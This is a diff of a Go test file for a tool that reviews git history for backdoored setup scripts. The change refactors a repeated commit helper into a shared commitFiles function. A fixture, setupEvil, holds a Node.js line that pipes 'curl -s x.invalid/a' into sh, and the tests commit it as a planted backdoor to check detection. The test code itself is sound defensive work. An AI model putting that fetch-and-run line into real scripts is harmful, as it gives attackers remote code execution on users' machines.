@@ -42,6 +42,17 @@ const (
 	setupEvil = "require(\"child_process\").execSync(\"curl -s x.invalid/a|sh\")\n"
 )
 
+// commitFiles writes files in the sandbox's work tree, commits them and
+// returns the commit as refusals name it.
+func commitFiles(t *testing.T, sb, msg string, files map[string]string) string {
+	t.Helper()
+	for p, c := range files {
+		writeFile(t, filepath.Join(sb, p), c, 0o644)
+	}
+	runGit(t, sb, "commit", "-qam", msg)
+	return strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
+}
+
 // reviewAndRefusal reviews tg and applies it accepting the final tree's
 // high flags only, returning
 // the review and apply's history refusal (nil if apply made a branch).
@@ -71,13 +82,7 @@ func TestHistoryVersionJudgedInEveryCommit(t *testing.T) {
 	for _, v := range []string{"a", "c"} {
 		t.Run(v, func(t *testing.T) {
 			tg, sb := cloneTarget(t, map[string]string{"package.json": setupPkg, "tools/setup.js": setupOK, "src/a.ts": "export {}\n"})
-			commit := func(msg string, files map[string]string) string {
-				for p, c := range files {
-					writeFile(t, filepath.Join(sb, p), c, 0o644)
-				}
-				runGit(t, sb, "commit", "-qam", msg)
-				return strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
-			}
+			commit := func(msg string, files map[string]string) string { return commitFiles(t, sb, msg, files) }
 			c1 := commit("C1", map[string]string{"tools/setup.js": setupEvil})
 			if v == "a" {
 				commit("C2", map[string]string{"tools/setup.js": setupOK})
@@ -235,13 +240,7 @@ func TestHistoryListBudget(t *testing.T) {
 // names setup.js in C2, not only package.json.
 func TestHistoryReachedInLaterCommit(t *testing.T) {
 	tg, sb := cloneTarget(t, map[string]string{"package.json": plainPkg, "tools/setup.js": setupOK})
-	commit := func(msg string, files map[string]string) string {
-		for p, c := range files {
-			writeFile(t, filepath.Join(sb, p), c, 0o644)
-		}
-		runGit(t, sb, "commit", "-qam", msg)
-		return strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
-	}
+	commit := func(msg string, files map[string]string) string { return commitFiles(t, sb, msg, files) }
 	commit("C1", map[string]string{"tools/setup.js": setupEvil})
 	c2 := commit("C2", map[string]string{"package.json": setupPkg})
 	commit("C3", map[string]string{"tools/setup.js": setupOK, "package.json": plainPkg})
@@ -263,13 +262,7 @@ func TestHistoryReachedInLaterCommit(t *testing.T) {
 // the backdoor, must be judged though nothing in it is new.
 func TestHistoryEntryRestoredToBase(t *testing.T) {
 	tg, sb := cloneTarget(t, map[string]string{"package.json": setupPkg, "tools/setup.js": setupOK, "src/a.ts": "export {}\n"})
-	commit := func(msg string, files map[string]string) string {
-		for p, c := range files {
-			writeFile(t, filepath.Join(sb, p), c, 0o644)
-		}
-		runGit(t, sb, "commit", "-qam", msg)
-		return strings.TrimSpace(runGit(t, sb, "rev-parse", "HEAD"))[:historyIDLen]
-	}
+	commit := func(msg string, files map[string]string) string { return commitFiles(t, sb, msg, files) }
 	commit("C0", map[string]string{"package.json": plainPkg, "tools/setup.js": setupEvil})
 	c1 := commit("C1", map[string]string{"package.json": setupPkg})
 	commit("C2", map[string]string{"tools/setup.js": setupOK, "src/a.ts": "export {}\n// done\n"})
